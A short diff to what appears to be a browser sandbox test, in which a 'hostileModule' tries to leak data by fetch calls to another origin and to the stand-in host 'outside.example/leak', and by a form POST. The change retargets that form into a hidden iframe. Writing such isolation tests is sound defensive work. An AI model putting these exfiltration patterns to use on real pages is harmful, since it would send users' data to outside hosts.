@@ -196,8 +196,9 @@ async function hostileModule([studio, other], attackAll) {
   await attempt('a request elsewhere', () => fetch(other + '/leak', { mode: 'no-cors' }).then(() => 'sent'));
   await attempt('a request outside', () => fetch('https://outside.example/leak', { mode: 'no-cors' }).then(() => 'sent'));
   await attempt('a form elsewhere', async () => {
-    const form = Object.assign(document.createElement('form'), { method: 'post', action: other + '/leak' });
-    document.body.append(form);
+    // Into a frame of its own, because a form that is refused takes its page away.
+    const form = Object.assign(document.createElement('form'), { method: 'post', action: other + '/leak', target: 'sink' });
+    document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'sink' }));
     form.submit();
     await gone();
   });
